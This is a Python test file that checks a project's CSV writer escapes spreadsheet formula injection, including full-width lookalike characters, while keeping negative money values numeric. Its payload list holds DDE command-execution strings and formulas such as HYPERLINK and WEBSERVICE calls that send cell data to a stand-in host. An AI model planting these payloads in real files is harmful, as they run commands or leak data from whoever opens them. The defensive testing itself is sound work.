# SPDX-License-Identifier: EUPL-1.2
"""Thirty texts that a spreadsheet would run: in no column of a CSV file does one begin a cell."""

from __future__ import annotations

import csv
import io

import pytest

from fundgraph.vocabulary import ESF
from fundgraph.writers.terms import iri, literal
from tests.writers.project import PROJECT, TRIPLES
from tests.writers.reading import written

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0", '=HYPERLINK("http://a.example?x="&A1,"x")',
    '=IMPORTXML("http://a.example","//a")', '=IMPORTDATA("http://a.example")',
    '=WEBSERVICE("http://a.example")', '=DDE("cmd";"x";"y")', "=A1", "=SUM(A1:A9)", "==1", "=",
    "+1", "+371 67123456", "-1", "--1", "-2+3", "@A1", "@", "\t=1+1", "\r=1+1", "\n=1+1",
    "\r\n=1+1", "\t\t@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", '=1+1";x',
    "=1+1,=2+2", "='a'!A1", "=\t1",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001


def cells(*triples: tuple[str, str, str]) -> list[str]:
    """The cells of the one row below the headings, as a spreadsheet reads them."""
    text = written("csv", [*triples])
    (row,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    return row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_are_texts(payload: str) -> None:
    """In titles, numbers, names and places alike."""
    changed = [
        (s, p, o if not o.startswith('"') or "decimal" in o else literal(payload, language="en"))
        for s, p, o in TRIPLES
    ]
    row = cells(*changed)
    assert sum(cell == f"'{payload}" for cell in row) >= 4
    assert not [cell for cell in row if cell.startswith(STARTS)]


def test_money_below_nothing_stays_a_number() -> None:
    money = f"<{ESF.spentEUR}>"
    rest = [triple for triple in TRIPLES if triple[1] != money]
    decimal = '"-5.00"^^<http://www.w3.org/2001/XMLSchema#decimal>'
    assert "-5.00" in cells(*rest, (iri(PROJECT), money, decimal))
